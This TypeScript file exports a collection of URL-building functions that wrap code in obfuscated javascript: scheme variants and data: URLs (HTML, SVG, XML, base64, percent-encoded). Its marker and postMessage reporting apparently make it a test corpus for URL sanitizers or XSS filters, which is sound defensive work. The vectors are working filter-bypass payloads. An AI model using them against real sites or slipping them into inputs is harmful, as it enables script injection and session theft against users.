/** Writes a URL that runs `code` if a frame or a link opens it. */
type WriteAddress = (code: string) => string;

const percent = (text: string) =>
  [...text].map((character) => `%${(character.codePointAt(0) ?? 0).toString(16).padStart(2, '0')}`).join('');
const script = (schemes: readonly string[]): WriteAddress[] => schemes.map((scheme) => (code) => `${scheme}${code}`);
const reporting = (code: string) => `<script>top.postMessage(${code.slice(10, -1)},'*')</script>`;

/** `javascript:` with something at each position that browsers ignore. */
const broken = ['\t', '\n', '\r', '\r\n', '\n\t\n'].flatMap((gap) =>
  [1, 4, 6, 9, 10].map((at) => `${'javascript'.slice(0, at)}${gap}${'javascript:'.slice(at)}`),
);
/** What browsers drop before a URL. */
const leading = Array.from({ length: 32 }, (_, code) => `${String.fromCodePoint(code + 1)}javascript:`);

/** URLs: `javascript:` in its spellings, and documents within a URL. */
export const addressVectors: readonly WriteAddress[] = [
  ...script([
    'javascript:',
    'JAVASCRIPT:',
    'JavaScript:',
    'jAvAsCrIpT:',
    'javascript: ',
    'javascript:\t',
    'javascript:\u2028',
    'javascript:void ',
  ]),
  ...script([
    'javascript:/**/',
    'javascript:/*\n*/',
    'javascript://%0a',
    'javascript://%0d',
    'javascript://newline.example/%0a',
    'javascript:;;',
  ]),
  ...script([
    'javascript://https://newline.example/%E2%80%A8',
    'javascript:"https://newline.example/";',
    'javascript:https:',
    'javascript:{}',
  ]),
  ...script([
    'javascript:if(1)',
    'javascript:{mailto:0};',
    'javascript:0?0:',
    'javascript:\ufeff',
    'javascript:\u00a0',
    'javascript:\u3000',
  ]),
  ...script(broken),
  ...script(leading),
  ...script(['\u0001\u001f \tjavascript:', '\n\n\n\njava\nscript\n:', ' \u0000\u0001 javascript:', '    \t\t JaVa\tScRiPt:']),
  (code) => `javascript:${percent(code)}`,
  (code) => `javascript:${code};//https://newline.example/a.png`,
  (code) => `javascript:${code}#https://newline.example/`,
  (code) => `javascript:'%3Cscript%3E${code}%3C/script%3E'`,
  (code) => `javascript:${code.replace('(', '`').replace(')', '`')}`,
  (code) => `javascript:eval(atob('${btoa(code)}'))`,
  (code) => `javascript:${code.replace('__hit', String.raw`\u005f_hit`)}`,
  (code) => `javascript:"<script>${code}</script>"`,
  (code) => `data:text/html,${reporting(code)}`,
  (code) => `DATA:TEXT/HTML,${reporting(code)}`,
  (code) => `da\nta:text/html,${reporting(code)}`,
  (code) => ` data:text/html;charset=utf-8,${percent(reporting(code))}`,
  (code) => `data:text/html;base64,${btoa(reporting(code))}`,
  (code) => `data:;a=b;base64,${btoa(reporting(code))}`,
  (code) => `data:text/html;charset=utf-7;x,${reporting(code)}`,
  (code) => `data:application/xhtml+xml,<html xmlns="http://www.w3.org/1999/xhtml">${reporting(code)}</html>`,
  (code) => `data:image/svg+xml,<svg xmlns="http://www.w3.org/2000/svg">${reporting(code)}</svg>`,
  (code) => `data:image/svg+xml;base64,${btoa(`<svg xmlns="http://www.w3.org/2000/svg">${reporting(code)}</svg>`)}`,
  (code) => `data:text/xml,<x xmlns="http://www.w3.org/1999/xhtml">${reporting(code)}</x>`,
];
